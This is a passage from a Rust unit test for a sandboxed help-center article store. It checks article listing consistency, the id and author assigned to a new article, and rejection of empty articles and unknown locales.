        assert_eq!(a.hc_articles("acme"), b.hc_articles("acme"));

        let state = SandboxState::new();
        let added = state
            .hc_add_article(
                "acme",
                HcNewArticle {
                    title: "First".to_owned(),
                    body: "<p>Hi</p>".to_owned(),
                    ..HcNewArticle::default()
                },
            )
            .unwrap();
        assert_eq!(added.id, FIRST_ARTICLE_ID);
        assert_eq!(added.author_id, 123);
        assert!(
            state
                .hc_add_article("acme", HcNewArticle::default())
                .is_none()
        );
        let unknown_locale = HcNewArticle {
            title: "x".to_owned(),
            locale: Some("ja".to_owned()),
            ..HcNewArticle::default()
        };
        assert!(state.hc_add_article("acme", unknown_locale).is_none());
    }
}
